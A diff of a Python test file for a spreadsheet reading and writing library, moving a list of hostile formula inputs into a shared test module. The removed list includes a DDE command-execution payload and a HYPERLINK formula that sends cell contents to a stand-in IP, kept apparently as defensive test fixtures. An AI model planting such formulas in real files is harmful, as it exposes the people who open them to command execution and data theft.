@@ -15,23 +15,8 @@ from hypothesis import strategies as st
 from stationdesk.core.errors import FileRefused
 from stationdesk.sheets.reading import read_sheet
 from stationdesk.sheets.writing import write_sheet
+from tests.faults.hostile_texts import FORMULAS
 
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    '=HYPERLINK("http://192.0.2.1/?x="&A1,"点此")',
-    "{=1+1}",
-]
 LETTERS = [
     "<b>东市</b>&amp;{x}%s",
     "_x000D_ 和 _x0041_",
